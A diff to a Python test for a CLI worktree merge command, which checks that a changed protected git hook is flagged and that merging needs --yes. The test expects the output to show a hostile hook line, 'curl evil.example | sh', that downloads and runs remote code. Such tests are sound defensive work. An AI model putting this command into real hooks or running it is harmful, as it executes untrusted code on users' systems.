@@ -92,9 +92,12 @@ def test_the_cli_diff_and_merge_print_the_warnings(repo, capsys):
     assert len(flagged) == 2 and all(".githooks/post-merge" in ln for ln in flagged)  # banner list + file list
     assert any(ln.strip().startswith("M src/a.py") and "protected" not in ln for ln in out)
     assert "+curl evil.example | sh" in out
-    assert main(["worktrees", "merge", "s1"]) == 0  # not a terminal: warned, then merged
+    assert main(["worktrees", "merge", "s1"]) == 1  # not a terminal: warned, not merged without --yes
     out = capsys.readouterr().out
     assert "⚠ 1 protected path changed" in out and ".githooks/post-merge  ⚠ protected:" in out
+    assert "not merged" in out and "--yes merges anyway" in out and (repo / "src" / "a.py").read_text() == "a = 1\n"
+    assert main(["worktrees", "merge", "s1", "--yes"]) == 0
+    out = capsys.readouterr().out
     assert "merged" in out and (repo / "src" / "a.py").read_text() == "a = 2\n"
 
 
